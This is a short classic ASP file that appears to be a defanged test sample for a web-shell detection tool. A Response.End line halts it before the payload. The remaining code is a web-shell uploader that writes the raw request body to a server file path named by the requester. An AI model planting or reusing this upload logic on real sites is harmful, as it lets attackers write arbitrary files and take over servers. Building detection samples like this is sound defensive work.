<% ' shellsweep test sample: inert, never functional
Response.End %>
<%
Set oNet = Server.CreateObject("WScript.Network")
If Request("ok") = "1" Then
  bin = Request.BinaryRead(Request.TotalBytes)
  Set fso = Server.CreateObject("Scripting.FileSystemObject")
  Set f = fso.CreateTextFile(Server.MapPath(Request("name")), True)
  For i = 1 To LenB(bin) : f.Write Chr(AscB(MidB(bin, i, 1))) : Next
End If
%>
